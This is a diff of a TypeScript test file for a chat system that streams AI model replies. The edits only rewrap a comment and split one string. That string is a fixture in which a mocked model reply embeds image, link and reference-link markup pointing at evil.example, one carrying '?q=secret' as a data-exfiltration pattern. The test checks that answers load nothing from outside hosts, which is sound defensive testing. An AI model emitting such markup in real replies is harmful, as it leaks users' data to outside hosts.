@@ -1,4 +1,5 @@
-// Runs with a model: what it says is streamed, what it wants is used under its person's rights, and whatever goes wrong has a name. Nothing of what was asked or read is in events or logs.
+// Runs with a model: what it says is streamed, what it wants is used under its person's rights, and whatever goes wrong
+// has a name. Nothing of what was asked or read is in events or logs.
 import { afterAll, beforeEach, describe, expect, test } from "vitest";
 import { answerTo, discussPath, ended, partsOf, readMessage, say, talkers } from "../../../test/discuss.ts";
 import { eventually } from "../../../test/eventually.ts";
@@ -240,7 +241,8 @@ test("an answer loads nothing from outside", async () => {
   const { home, ada } = await talkers(running);
   provider.say({
     text: [
-      '![x](https://evil.example/?q=secret) [go](https://evil.example) <img src="https://evil.example"> [ours](/tasks/ENG-1)\n[r]: https://evil.example',
+      '![x](https://evil.example/?q=secret) [go](https://evil.example) <img src="https://evil.example"> ' +
+        "[ours](/tasks/ENG-1)\n[r]: https://evil.example",
     ],
   });
   const { content } = await answerTo(ada, home, "Hello");
